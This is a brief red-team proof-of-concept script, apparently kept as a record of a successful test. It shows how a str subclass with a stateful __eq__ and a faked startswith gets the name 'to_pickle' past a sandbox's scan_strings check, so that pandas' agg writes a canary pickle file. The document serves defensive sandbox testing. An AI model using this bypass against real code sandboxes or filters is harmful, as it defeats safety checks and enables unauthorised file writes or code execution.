# (b)/(d) str subclass built with real type(): overridden startswith + stateful __eq__ dodges scan_strings' frozenset checks, then pandas getattr()s "to_pickle"; driver sees {CANARY}.pwned_agg.pkl created
# red team 2026-12-07, docs/redteam-2026-12-07/success_17_agg_str_subclass_to_pickle.py.txt
import pandas as pd

cnt = [0]


def eq(self, other):
    cnt[0] += 1
    if cnt[0] <= 2:
        return False
    return str(self) == other


S = type(int)("S", (str,), {"__eq__": eq, "__hash__": lambda s: hash(str(s)), "startswith": lambda s, x: False})
df = pd.DataFrame({"a": [1, 2]})
df.agg(S("to_pickle"), 0, "{CANARY}.pwned_agg.pkl")
